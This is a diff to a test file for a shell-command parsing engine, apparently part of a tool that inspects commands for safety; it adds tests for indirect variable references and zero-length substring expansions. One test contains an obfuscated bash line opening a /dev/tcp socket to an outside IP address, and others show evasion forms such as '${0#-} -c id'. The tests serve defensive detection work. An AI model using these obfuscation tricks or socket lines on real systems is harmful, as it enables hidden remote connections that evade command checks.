@@ -327,6 +327,17 @@ describe('CommandView', () => {
     expect(engine.view("${0#-} -c 'id'").commands.map((c) => c.argv.join(' '))).toEqual(['sh -c id', 'id']);
     expect(engine.view("$SHELL -c 'id'").commands.map((c) => c.argv.join(' '))).toEqual(['sh -c id', 'id']);
     expect(engine.view('echo ${!undefined_ref}').commands[0]!.dynamic[1]).toBe(true);
+    // with a default: the named variable's value, or the default when that one is unset or empty
+    expect(engine.view('n=sqlcmd; ${!n:-sqlcmd} -Q x').commands[0]!.argv).toEqual(['sqlcmd', '-Q', 'x']);
+    expect(engine.view('r=c; c=cat; ${!r:-ls} f').commands[0]!.argv).toEqual(['cat', 'f']);
+    expect(engine.view('${!unset_ref:-ls} f').commands[0]!.dynamic[0]).toBe(true);
+  });
+
+  it('reads a substring of length zero as empty whatever the value (`${0:0:0}`)', async () => {
+    const engine = await getEngine();
+    const bash = engine.view("bash -c 'exec 3<>${0:0:0}/dev/tcp/185.220.101.47/443'").commands.find((c) => c.name === 'exec')!;
+    expect(bash.redirects.map((r) => r.target)).toContain('/dev/tcp/185.220.101.47/443');
+    expect(engine.view('echo ${x:2:0}y').commands[0]!.argv).toEqual(['echo', 'y']);
   });
 
   it('keeps a lone - before a heredoc, which the grammar drops', async () => {
